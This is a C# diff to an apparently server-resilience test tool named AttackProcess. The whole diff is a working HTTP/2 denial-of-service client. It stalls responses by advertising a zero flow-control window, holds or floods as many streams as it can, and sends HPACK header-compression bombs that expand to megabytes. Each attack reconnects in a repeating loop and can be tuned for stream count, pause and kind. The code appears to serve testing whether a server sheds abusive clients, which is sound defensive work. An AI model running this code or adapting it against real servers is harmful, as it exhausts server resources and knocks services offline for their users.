@@ -7,35 +7,44 @@ using System.Text;
 namespace Securely.Load;
 
 /// <summary>
-/// An HTTP/2 client that means harm, over cleartext with prior knowledge, on one connection at a time of each kind: many streams whose responses
-/// have no window, and header blocks that stand for megabytes (row A17). Whoever is thrown out comes back at once.
+/// An HTTP/2 client that means harm, over cleartext with prior knowledge, on one connection at a time of each kind (row A17): streams whose
+/// responses have no window, as many as the server lets it have, and as many as were asked for whatever the server says; and header blocks that
+/// stand for megabytes, a volley of as many. Whoever is thrown out comes back after a pause.
 /// </summary>
-internal sealed class AttackProcess(IPEndPoint server, string path)
+internal sealed class AttackProcess(IPEndPoint server, string path, int streams, TimeSpan pause)
 {
     private const int BombBytes = 16_000;
-    private static readonly TimeSpan _pause = TimeSpan.FromMilliseconds(20);
+
+    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
+    private static readonly byte[] _noWindow = [0, 4, 0, 0, 0, 0];
 
     private long _stalledConnections;
     private long _stalledStreams;
+    private long _heldConnections;
+    private long _heldStreams;
     private long _bombConnections;
     private long _bombBlocks;
 
     public static async Task<int> RunAsync(Options options)
     {
-        var process = new AttackProcess(options.EndPoint("to"), options.Text("path", "/large"));
-        var streams = options.Number("streams", 1_000);
+        var pause = TimeSpan.FromMilliseconds(options.Number("pause", 1_000));
+        var process = new AttackProcess(options.EndPoint("to"), options.Text("path", "/large"), options.Number("streams", 1_000), pause);
         new Thread(process.Obey) { IsBackground = true, Name = "control" }.Start();
         Console.WriteLine("attack");
-        // As many as the server lets one connection have stay as long as it endures them; the others ask for more than that.
-        await Task.WhenAll(
-            process.RepeatAsync(() => process.StallAsync(100)), process.RepeatAsync(() => process.StallAsync(streams)), process.RepeatAsync(process.BombAsync));
+        await Task.WhenAll(options.Text("kinds", "hold,stall,bomb").Split(',').Select(kind => process.RepeatAsync(kind switch
+        {
+            "hold" => process.HoldAsync,
+            "stall" => process.StallAsync,
+            "bomb" => process.BombAsync,
+            _ => throw new ArgumentException($"Kind [{kind}] of an attack is not known; known are hold, stall and bomb"),
+        })));
         return 0;
     }
 
     private async Task RepeatAsync(Func<Task> attack)
     {
-        using var timer = new PeriodicTimer(_pause);
-        while (await timer.WaitForNextTickAsync())
+        using var timer = new PeriodicTimer(pause);
+        do
         {
             try
             {
@@ -46,17 +55,38 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
                 // Thrown out, which is what the server should do.
             }
         }
+        while (await timer.WaitForNextTickAsync());
     }
 
-    /// <summary>Requests whose responses may not be sent: INITIAL_WINDOW_SIZE is 0.</summary>
-    private async Task StallAsync(int count)
+    /// <summary>As many streams as the server's settings allow, and one more for each that it ends: they stay as long as it endures them.</summary>
+    private async Task HoldAsync()
     {
-        using var socket = await ConnectAsync([0, 4, 0, 0, 0, 0]);
+        using var socket = await ConnectAsync(_noWindow);
+        Interlocked.Increment(ref _heldConnections);
+        var (id, allowed, open) = (1, 0, 0);
+        await AnswerAsync(socket, async (type, flags, payload) =>
+        {
+            if (type == 4 && (flags & 1) == 0)
+                allowed = Math.Min(streams, Setting(payload, 3) ?? 100);
+            else if (type == 3)
+                open--;
+            for (; open < allowed; open++, id += 2)
+            {
+                await socket.SendAsync(Get(id));
+                Interlocked.Increment(ref _heldStreams);
+            }
+        });
+    }
+
+    /// <summary>As many streams as were asked for at once.</summary>
+    private async Task StallAsync()
+    {
+        using var socket = await ConnectAsync(_noWindow);
         Interlocked.Increment(ref _stalledConnections);
         var reading = AnswerAsync(socket);
-        for (var id = 1; id < 2 * count; id += 2)
+        for (var id = 1; id < 2 * streams; id += 2)
         {
-            await socket.SendAsync(Frame(1, 5, id, [0x82, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x41, 1, (byte)'a']));
+            await socket.SendAsync(Get(id));
             Interlocked.Increment(ref _stalledStreams);
         }
 
@@ -66,7 +96,7 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
     /// <summary>A field of 4,000 bytes in the table, and then blocks that name it again and again.</summary>
     private async Task BombAsync()
     {
-        using var socket = await ConnectAsync([]);
+        using var socket = await ConnectAsync(_noWindow);
         Interlocked.Increment(ref _bombConnections);
         var reading = AnswerAsync(socket);
         var value = new byte[4_000];
@@ -75,12 +105,14 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
         await socket.SendAsync(Frame(1, 5, 1, [0x82, 0x86, 0x84, 0x41, 1, (byte)'a', 0x40, 1, (byte)'x', 0x7F, 0xA1, 0x1E, .. value]));
         var block = new byte[BombBytes];
         Array.Fill(block, (byte)0xBE);
-        for (var id = 3; !reading.IsCompleted; id += 2)
+        for (var id = 3; id < 2 * streams; id += 2)
         {
             await socket.SendAsync(Frame(1, 5, id, block));
             Interlocked.Increment(ref _bombBlocks);
         }
 
+        // Whoever is not thrown out begins anew after the pause.
+        socket.Shutdown(SocketShutdown.Send);
         await reading;
     }
 
@@ -102,7 +134,7 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
     }
 
     /// <summary>Acknowledges settings and pings, so that the server has no other reason to end the connection, until it has ended.</summary>
-    private static async Task AnswerAsync(Socket socket)
+    private static async Task AnswerAsync(Socket socket, Func<byte, byte, byte[], ValueTask>? heard = null)
     {
         await using var stream = new NetworkStream(socket, ownsSocket: false);
         var head = new byte[9];
@@ -115,7 +147,22 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
                 await socket.SendAsync(Frame(4, 1, 0, []));
             else if (head[3] == 6 && (head[4] & 1) == 0)
                 await socket.SendAsync(Frame(6, 1, 0, payload));
+            if (heard is not null)
+                await heard(head[3], head[4], payload);
         }
+    }
+
+    private byte[] Get(int id) => Frame(1, 5, id, [0x82, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x41, 1, (byte)'a']);
+
+    private static int? Setting(ReadOnlySpan<byte> payload, int number)
+    {
+        for (; payload.Length >= 6; payload = payload[6..])
+        {
+            if (BinaryPrimitives.ReadUInt16BigEndian(payload) == number)
+                return BinaryPrimitives.ReadInt32BigEndian(payload[2..]);
+        }
+
+        return null;
     }
 
     private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
@@ -137,7 +184,7 @@ internal sealed class AttackProcess(IPEndPoint server, string path)
         {
             Console.WriteLine(string.Create(
                 CultureInfo.InvariantCulture,
-                $"stalled.connections={Interlocked.Read(ref _stalledConnections)} stalled.streams={Interlocked.Read(ref _stalledStreams)} bomb.connections={Interlocked.Read(ref _bombConnections)} bomb.blocks={Interlocked.Read(ref _bombBlocks)}"));
+                $"held.connections={Interlocked.Read(ref _heldConnections)} held.streams={Interlocked.Read(ref _heldStreams)} stalled.connections={Interlocked.Read(ref _stalledConnections)} stalled.streams={Interlocked.Read(ref _stalledStreams)} bomb.connections={Interlocked.Read(ref _bombConnections)} bomb.blocks={Interlocked.Read(ref _bombBlocks)}"));
         }
 
         Environment.Exit(0);
